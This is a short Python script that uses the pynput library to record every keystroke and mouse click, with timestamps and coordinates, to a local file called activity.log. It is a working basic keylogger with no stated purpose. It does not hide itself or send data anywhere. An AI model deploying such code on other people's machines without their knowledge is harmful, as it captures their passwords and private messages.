from pynput import keyboard, mouse
import logging

logging.basicConfig(filename="activity.log", level=logging.INFO, format="%(asctime)s %(message)s")

def on_key(k):
    logging.info("key %s", k)

def on_click(x, y, button, pressed):
    if pressed:
        logging.info("click %s at %d,%d", button, x, y)

kl = keyboard.Listener(on_press=on_key)
ml = mouse.Listener(on_click=on_click)
kl.start(); ml.start()
kl.join(); ml.join()
